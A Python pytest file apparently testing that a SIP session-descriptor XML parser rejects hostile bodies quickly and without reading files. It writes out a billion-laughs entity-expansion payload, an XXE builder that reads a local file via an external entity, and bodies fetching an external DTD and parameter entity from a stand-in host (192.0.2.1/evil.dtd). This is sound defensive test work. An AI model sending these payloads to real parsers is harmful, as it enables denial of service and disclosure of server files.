"""Bodies built to hurt: each is refused with the package's error, quickly, and reads no file."""

import time

import pytest
from lxml import etree

from session_xml import (
    MAX_BODY_BYTES,
    BodyTooLarge,
    DescriptorError,
    InvalidValue,
    MalformedBody,
    build_descriptor,
    parse_descriptor,
    parse_progress,
)
from protocols.untrusted_xml import parser
from tests.session_xml.examples import ANSWER, OFFER, with_text

OFFER_BODY = build_descriptor(OFFER)
ANSWER_BODY = build_descriptor(ANSWER)
TIME_BOUND = 2.0

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE offer [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<offer xmlns="urn:sipsync:session:1" version="1.0"><sessionId>&lol9;</sessionId></offer>
"""


def xxe(url: str) -> bytes:
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE offer [<!ENTITY secret SYSTEM "{url}">]>\n'
        f'<offer xmlns="urn:sipsync:session:1" version="1.0"><sessionId>&secret;</sessionId></offer>'
    ).encode()


def refused(parse, body: bytes) -> DescriptorError:
    started = time.monotonic()
    with pytest.raises(DescriptorError) as raised:
        parse(body)
    assert time.monotonic() - started < TIME_BOUND
    assert raised.value.reason
    return raised.value


@pytest.fixture
def secret_file(tmp_path):
    path = tmp_path / "secret.txt"
    path.write_text("TOP-SECRET-MARKER")
    return path


def test_a_billion_laughs_body_is_refused_quickly():
    error = refused(parse_descriptor, BILLION_LAUGHS)
    assert isinstance(error, MalformedBody)
    assert "DTD" in error.reason


def test_an_external_entity_body_is_refused_without_reading_the_file(secret_file):
    error = refused(parse_descriptor, xxe(secret_file.as_uri()))
    assert isinstance(error, MalformedBody)
    assert "TOP-SECRET-MARKER" not in str(error)


def test_an_external_entity_body_in_a_progress_report_is_refused(secret_file):
    body = xxe(secret_file.as_uri()).replace(b"offer", b"progress")
    assert isinstance(refused(parse_progress, body), MalformedBody)


@pytest.mark.parametrize(
    "body",
    [
        b'<!DOCTYPE offer SYSTEM "http://192.0.2.1/evil.dtd"><offer/>',
        b'<!DOCTYPE offer [<!ENTITY % p SYSTEM "http://192.0.2.1/x"> %p;]><offer/>',
        b'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE offer><offer/>'.decode().encode("utf-16"),
        b"<offer>&undefined;</offer>",
    ],
    ids=["external-dtd", "parameter-entity", "utf-16-dtd", "undefined-entity"],
)
def test_a_body_reaching_for_a_dtd_or_entity_is_refused(body):
    assert isinstance(refused(parse_descriptor, body), MalformedBody)


def test_the_parser_itself_neither_expands_entities_nor_reads_files(secret_file):
    # Behind the text check, the parser is safe on its own: lxml keeps the reference unexpanded.
    root = etree.fromstring(xxe(secret_file.as_uri()), parser())
    assert "TOP-SECRET-MARKER" not in etree.tostring(root).decode()


@pytest.mark.parametrize("size", [MAX_BODY_BYTES + 1, 50 * 1024 * 1024])
def test_a_body_over_the_size_cap_is_refused_with_413_before_parsing(size):
    body = OFFER_BODY + b" " * (size - len(OFFER_BODY))
    error = refused(parse_descriptor, body)
    assert isinstance(error, BodyTooLarge)
    assert error.sip_status == 413


def test_a_body_just_under_the_size_cap_is_accepted():
    body = OFFER_BODY + b" " * (MAX_BODY_BYTES - len(OFFER_BODY))
    assert parse_descriptor(body) == OFFER


@pytest.mark.parametrize("depth", [17, 5000])
def test_deeply_nested_elements_are_refused(depth):
    nested = "<x:a>" * depth + "</x:a>" * depth
    body = OFFER_BODY.replace(b"<token>", f'<x:z xmlns:x="urn:example">{nested}</x:z><token>'.encode())
    assert isinstance(refused(parse_descriptor, body), MalformedBody)


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (OFFER_BODY.replace(b"urn:sipsync:session:1", b"urn:sipsync:session:2"), "namespace urn:sipsync:session:2"),
        (OFFER_BODY.replace(b' xmlns="urn:sipsync:session:1"', b""), "in no namespace"),
        (b"", "Document is empty"),
        (b"not xml at all", "not well-formed"),
        (OFFER_BODY[:200], "not well-formed"),
        (b"\xff\xfe<\x00o\x00", "not UTF-8"),
        (OFFER_BODY.replace(b"<token>", b"<token>\xc3("), "not UTF-8"),
        (OFFER_BODY.replace(b"<token>", b"<token>\x00"), "NUL"),
        (b"<offer xmlns='urn:sipsync:session:1' version='1.0'>" + b"<token/>" * 7000 + b"</offer>", "sessionId"),
    ],
    ids=["other-namespace", "no-namespace", "empty", "not-xml", "truncated", "utf-16", "bad-utf-8", "nul",
         "many-elements"],
)  # fmt: skip
def test_a_malformed_body_is_refused_with_400_and_a_clear_reason(body, reason):
    error = refused(parse_descriptor, body)
    assert isinstance(error, MalformedBody)
    assert error.sip_status == 400
    assert reason in error.reason


@pytest.mark.parametrize(
    ("element", "text"),
    [("sourcePort", "65536"), ("sourcePort", "-1"), ("destinationPort", "9" * 5000), ("sourcePort", "NaN")],
)
def test_bad_numbers_are_refused(element, text):
    assert refused(parse_descriptor, with_text(ANSWER_BODY, element, text)).sip_status == 400


@pytest.mark.parametrize(
    ("element", "text"),
    [("sourceIP", "256.256.256.256"), ("sourceIP", "1.2.3.4.5"), ("destinationIP", "::1::2"),
     ("destinationIP", "1" * 45), ("sourceIP", "ff02::1"), ("sourceIP", "localhost")],
)  # fmt: skip
def test_bad_addresses_are_refused(element, text):
    error = refused(parse_descriptor, with_text(ANSWER_BODY, element, text))
    assert isinstance(error, (MalformedBody, InvalidValue))
    assert element in error.reason


def test_a_body_that_is_not_bytes_is_a_programming_error():
    with pytest.raises(TypeError):
        parse_descriptor(OFFER_BODY.decode())
